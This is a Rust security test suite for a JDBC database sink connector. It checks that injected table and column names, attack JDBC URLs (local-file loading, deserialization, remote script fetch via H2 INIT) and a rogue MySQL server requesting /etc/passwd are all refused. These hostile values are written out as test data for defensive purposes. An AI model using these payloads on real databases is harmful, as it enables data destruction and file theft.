//! What must not happen, whatever records, configurations and servers say.

use std::process::Command;

use millrace_api::ErrorKind;
use millrace_api::config::Props;
use millrace_api::connector::ConnectorPlugin as _;
use millrace_connector_jdbc::JdbcSinkPlugin;
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::support::{Batch, Db, Kind, Sink, indices, postgres_props};

fn props(pairs: &[(&str, &str)]) -> Props {
    pairs.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect()
}

/// Errors of one key.
async fn errors(props: &Props, key: &str) -> Vec<String> {
    let values = JdbcSinkPlugin.validate(props).await;
    values.into_iter().filter(|value| value.name == key).flat_map(|value| value.errors).collect()
}

/// Names of fields and topics that would end a statement, if they could.
pub(crate) async fn names_cannot_leave_their_quotes(mut db: Db) {
    db.table("victim", "id INT").await;
    db.drop_table("hostile-topic").await;
    let mut sink = db.sink(&[("auto.create", "true"), ("auto.evolve", "true")]).await;
    let hostile = [
        "a\"); DROP TABLE victim; --",
        "b`); DROP TABLE victim; --",
        "c'); DROP TABLE victim; --",
        "d\\\"e",
        "f) VALUES (1",
        "?",
        "$1",
    ];
    let record = |names: &[&str]| {
        json!(names.iter().map(|name| ((*name).to_owned(), json!(1))).collect::<serde_json::Map<_, _>>())
    };
    sink.write(&Batch::values("hostile-topic", [record(&hostile[..3])])).await;
    sink.write(&Batch::values("hostile-topic", [record(&hostile)])).await;
    assert_eq!(db.one("SELECT COUNT(*) FROM `hostile-topic`").await, "2");
    assert_eq!(db.one("SELECT COUNT(*) FROM victim").await, "0");
    let names = match db.kind {
        Kind::Sqlite => "SELECT name FROM pragma_table_info('hostile-topic')",
        Kind::MariaDb => {
            "SELECT column_name FROM information_schema.columns WHERE table_schema = DATABASE() AND table_name = 'hostile-topic' ORDER BY ordinal_position"
        }
        Kind::Postgres => {
            "SELECT attname FROM pg_attribute WHERE attrelid = to_regclass('\"hostile-topic\"') AND attnum > 0 ORDER BY attnum"
        }
    };
    assert_eq!(db.rows(names).await, hostile);

    // A transformation may have made a topic of anything; it is a name and nothing else.
    let mode =
        [("auto.create", "true"), ("insert.mode", "upsert"), ("pk.mode", "record_value"), ("pk.fields", "k\"`;--")];
    let mut sink = db.sink(&mode).await;
    let topic = "t\"`; DROP TABLE victim; --";
    db.drop_table(topic).await;
    for _ in 0..2 {
        sink.write(&Batch::values(topic, [json!({"k\"`;--": "x", "v": 1})])).await;
    }
    assert_eq!(db.one("SELECT COUNT(*) FROM victim").await, "0");

    // Names that the server would cut or refuse are refused before it sees them.
    let mut sink = db.sink(&[("auto.evolve", "true"), ("table.name.format", "victim")]).await;
    let long = json!({"id": 1, "x".repeat(2_000): 1});
    let rejected = sink.put(&Batch::values("v", [long, json!({"id": 2})])).await.expect("the other is written");
    assert_eq!(indices(&rejected), [0]);
    assert_eq!(db.one("SELECT COUNT(*) FROM victim").await, "1");
}

pub(crate) async fn validation_connects_and_tells_no_more_than_that(db: Db) {
    let good = db.props(&[]);
    assert!(JdbcSinkPlugin.validate(&good).await.iter().all(|value| value.errors.is_empty()));
    let one_text = "Could not connect to the database with these settings; check connection.url, connection.user and \
        connection.password, and that the worker may reach the database";
    let mut wrong = vec![
        props(&[("connection.url", "jdbc:mysql://127.0.0.1:1/d"), ("connection.user", "u")]),
        props(&[("connection.url", "jdbc:postgresql://no-such-host.invalid/d"), ("connection.user", "u")]),
        props(&[("connection.url", "jdbc:sqlite:/etc/passwd")]),
        props(&[("connection.url", "jdbc:sqlite:/no/such/file.db")]),
    ];
    if db.kind != Kind::Sqlite {
        wrong.push(db.props(&[("connection.password", "wrong-s3cret")]));
    }
    for props in wrong {
        assert_eq!(errors(&props, "connection.url").await, [one_text], "{:?}", props.get("connection.url"));
    }
}

/// The servers of the tests have no TLS.
pub(crate) async fn tls_that_is_required_is_not_given_up(db: Db) {
    let parameters: &[&str] = match db.kind {
        Kind::Sqlite => &[],
        Kind::MariaDb => &["?sslMode=REQUIRED", "?sslMode=verify-full", "?useSSL=true&requireSSL=true"],
        Kind::Postgres => &["?sslmode=require", "?sslmode=verify-ca", "?ssl=true"],
    };
    for parameters in parameters {
        let mut props = db.props(&[]);
        props["connection.url"].push_str(parameters);
        let error = Sink::start(&props).await.err().expect("no TLS, no connection");
        assert_eq!(error.kind(), ErrorKind::External);
        assert!(error.message().contains("TLS"), "{error}");
    }
}

#[tokio::test]
async fn keys_are_checked_against_each_other() {
    let base = [("connection.url", "jdbc:sqlite::memory:")];
    let with = |pairs: &[(&'static str, &'static str)]| props(&[&base[..], pairs].concat());
    for (pairs, key) in [
        (&[("delete.enabled", "true"), ("pk.mode", "record_value")][..], "delete.enabled"),
        (&[("insert.mode", "upsert")], "insert.mode"),
        (&[("insert.mode", "merge")], "insert.mode"),
        (&[("pk.mode", "kafka"), ("pk.fields", "a,b")], "pk.fields"),
        (&[("db.timezone", "Mars/Olympus")], "db.timezone"),
        (&[("batch.size", "0")], "batch.size"),
        (&[("dialect.name", "OracleDatabaseDialect")], "dialect.name"),
        (&[("jdbc.credentials.provider.class", "evil.Provider")], "jdbc.credentials.provider.class"),
        (&[("topics.to.tables.mapping", "a:b,c")], "topics.to.tables.mapping"),
        (&[("connection.socketFactory", "x")], "connection.url"),
        (&[("connection.url", "jdbc:mysql://127.0.0.1:1/d")], "connection.user"),
    ] {
        let props = with(pairs);
        let found = errors(&props, key).await;
        assert_eq!(found.len(), 1, "{pairs:?}: {found:?}");
        let error = Sink::start(&props).await.err().expect("refused");
        assert_eq!((error.kind(), error.message()), (ErrorKind::Config, found[0].as_str()));
    }
    // What is wrong with one key does not hide what is wrong with the URL. What is no number is not null either, as in Kafka Connect.
    let both = with(&[("batch.size", "many"), ("connection.url", "jdbc:h2:mem:x")]);
    assert_eq!((errors(&both, "batch.size").await.len(), errors(&both, "connection.url").await.len()), (2, 1));
    let kafka = with(&[
        ("pk.mode", "RECORD_KEY"),
        ("pk.fields", "a"),
        ("insert.mode", "UPSERT"),
        ("delete.enabled", "true"),
        ("max.retries", "3"),
    ]);
    assert!(JdbcSinkPlugin.validate(&kafka).await.iter().all(|value| value.errors.is_empty()));
}

#[tokio::test]
async fn attack_urls_are_refused_before_anything_is_opened() {
    let folder = tempfile::tempdir().expect("a folder");
    let fresh = folder.path().join("fresh.db");
    for url in [
        "jdbc:mysql://127.0.0.1:1/d?allowLoadLocalInfile=true",
        "jdbc:mysql://127.0.0.1:1/d?autoDeserialize=true&password=s3cret",
        "jdbc:postgresql://127.0.0.1:1/d?socketFactory=x&socketFactoryArg=http://s3cret/",
        "jdbc:postgresql://127.0.0.1:1/d?sslcert=/etc/s3cret",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://s3cret/'",
        &format!("jdbc:sqlite:file:{}?mode=rwc&s3cret", fresh.display()),
    ] {
        let props = props(&[("connection.url", url), ("connection.user", "u")]);
        let found = errors(&props, "connection.url").await;
        assert_eq!(found.len(), 1, "{url}: {found:?}");
        assert!(
            found[0].starts_with("Invalid value for configuration connection.url: ") && !found[0].contains("s3cret"),
            "{}",
            found[0]
        );
        let error = Sink::start(&props).await.err().expect("refused");
        assert_eq!(error.kind(), ErrorKind::Config);
        assert!(!format!("{error:?}").contains("s3cret"));
    }
    assert!(!fresh.exists());
}

#[tokio::test]
async fn sqlite_neither_creates_nor_overwrites_files() {
    let folder = tempfile::tempdir().expect("a folder");
    let (missing, empty, text) =
        (folder.path().join("missing"), folder.path().join("empty"), folder.path().join("text"));
    std::fs::write(&empty, "").expect("written");
    std::fs::write(&text, "a crontab, say, of more than sixteen bytes").expect("written");
    for path in [&missing, &empty, &text, &folder.path().to_path_buf()] {
        let url = format!("jdbc:sqlite:{}", path.display());
        let error =
            Sink::start(&props(&[("connection.url", &url), ("auto.create", "true")])).await.err().expect("refused");
        assert_eq!(error.kind(), ErrorKind::External, "{error:?}");
    }
    assert!(!missing.exists());
    assert_eq!(std::fs::read(&empty).expect("read"), b"");
    let memory = Sink::start(&props(&[("connection.url", "jdbc:sqlite::memory:"), ("auto.create", "true")])).await;
    memory.expect("memory is no file").write(&Batch::values("t", [json!({"a": 1})])).await;
}

/// A server that answers the first statement by asking for a file of the client's (`LOAD DATA LOCAL INFILE`).
#[tokio::test]
async fn a_rogue_mysql_server_gets_no_file() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let server = tokio::spawn(async move {
        let (mut socket, _) = listener.accept().await.expect("a client");
        let packet = |sequence: u8, payload: &[u8]| {
            let mut bytes = u32::try_from(payload.len()).expect("short").to_le_bytes()[..3].to_vec();
            bytes.push(sequence);
            bytes.extend_from_slice(payload);
            bytes
        };
        // Protocol 10, version, thread, first part of the nonce, capabilities with LOCAL_FILES and without SSL, the rest.
        let mut greeting = b"\x0a8.0.99\0\x01\0\0\0abcdefgh\0".to_vec();
        greeting.extend_from_slice(&[0xff, 0xf7, 0x2d, 0x02, 0x00, 0xff, 0x81, 0x15]);
        greeting.extend_from_slice(&[0; 10]);
        greeting.extend_from_slice(b"ijklmnopqrst\0mysql_native_password\0");
        socket.write_all(&packet(0, &greeting)).await.expect("greeted");
        let mut heard = vec![0; 65_536];
        let mut said = Vec::new();
        let length = socket.read(&mut heard).await.expect("a login");
        assert!(length > 32, "a login");
        socket.write_all(&packet(2, &[0, 0, 0, 2, 0, 0, 0])).await.expect("accepted");
        let length = socket.read(&mut heard).await.expect("a statement");
        assert!(heard[..length].windows(3).any(|part| part == b"SET"), "a statement");
        socket.write_all(&packet(1, b"\xfb/etc/passwd")).await.expect("asked");
        while let Ok(Ok(length @ 1..)) =
            tokio::time::timeout(std::time::Duration::from_secs(2), socket.read(&mut heard)).await
        {
            said.extend_from_slice(&heard[..length]);
        }
        said
    });
    let url = format!("jdbc:mysql://127.0.0.1:{port}/d");
    let props = props(&[("connection.url", &url), ("connection.user", "u"), ("connection.password", "p")]);
    let outcome = tokio::time::timeout(std::time::Duration::from_secs(15), Sink::start(&props)).await.expect("no hang");
    assert!(outcome.is_err());
    let said = server.await.expect("no panic");
    assert!(!said.windows(5).any(|part| part == b"root:"), "the client sent a file");
}

/// The environment and home of the worker's account are not the connector's: with everything PostgreSQL's own clients would
/// take from there, a connection without a password fails.
#[tokio::test]
#[ignore = "needs MILLRACE_TEST_POSTGRES"]
async fn real_postgres_environment_is_not_used() {
    const CHILD: &str = "MILLRACE_JDBC_TEST_CHILD";
    let mut props = postgres_props();
    if std::env::var_os(CHILD).is_some() {
        let right = Sink::start(&props).await;
        assert!(right.is_ok(), "with its own password it connects: {:?}", right.err());
        props.shift_remove("connection.password");
        let error = Sink::start(&props).await.err().expect("nobody gave a password");
        assert_eq!(error.kind(), ErrorKind::External, "{error:?}");
        return;
    }
    let home = tempfile::tempdir().expect("a folder");
    let password = props["connection.password"].clone();
    let passfile = home.path().join(".pgpass");
    std::fs::write(&passfile, format!("*:*:*:*:{password}\n")).expect("written");
    let private = std::os::unix::fs::PermissionsExt::from_mode(0o600);
    std::fs::set_permissions(&passfile, private).expect("private");
    let child = |variables: &[(&str, &str)]| {
        let name = "security::real_postgres_environment_is_not_used";
        let program = std::env::current_exe().expect("this program");
        let output = Command::new(program)
            .args(["--exact", name, "--ignored"])
            .env(CHILD, "1")
            .envs(variables.iter().copied())
            .output();
        let output = output.expect("run");
        (output.status.success(), String::from_utf8_lossy(&output.stdout).into_owned())
    };
    let (home, passfile) = (home.path().display().to_string(), passfile.display().to_string());
    let (passed, output) = child(&[
        ("HOME", home.as_str()),
        ("PGPASSFILE", passfile.as_str()),
        ("PGPASSWORD", password.as_str()),
        ("PGUSER", "nobody"),
        ("PGHOST", "/nowhere"),
        ("PGHOSTADDR", "192.0.2.1"),
        ("PGPORT", "1"),
        ("PGDATABASE", "nothing"),
        ("PGSSLMODE", "verify-full"),
        ("PGSSLROOTCERT", "/nowhere"),
        ("PGAPPNAME", "x"),
    ]);
    assert!(passed, "{output}");
    // What cannot be overruled is refused, aloud.
    let (passed, output) = child(&[("PGOPTIONS", "-c search_path=elsewhere")]);
    assert!(!passed && output.contains("environment sets PGOPTIONS"), "{output}");
}
